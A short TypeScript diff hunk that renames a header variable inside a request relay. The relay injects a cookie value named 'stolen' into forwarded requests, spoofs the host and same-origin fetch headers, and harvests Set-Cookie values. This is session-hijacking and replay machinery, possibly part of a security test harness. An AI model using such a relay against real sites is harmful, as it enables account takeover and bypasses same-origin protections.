@@ -87,14 +87,14 @@ function createRelay(port: string): Relay {
 
   async function relayed(req: IncomingMessage) {
     const { origin, referer: _, 'accept-encoding': _coding, ...headers } = req.headers
-    const own = {
+    const ownHeaders = {
       ...headers,
       cookie: [headers.cookie ?? '', stolen].filter(Boolean).join('; '),
       host: 'app.example',
       'sec-fetch-site': 'same-origin',
       ...(origin === undefined ? {} : { origin: appUrl }),
     }
-    const answer = await passOn({ port, req, headers: own })
+    const answer = await passOn({ port, req, headers: ownHeaders })
     for (const line of answer.headers['set-cookie'] ?? []) {
       const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(line) ?? []
       seen.set(name, value)
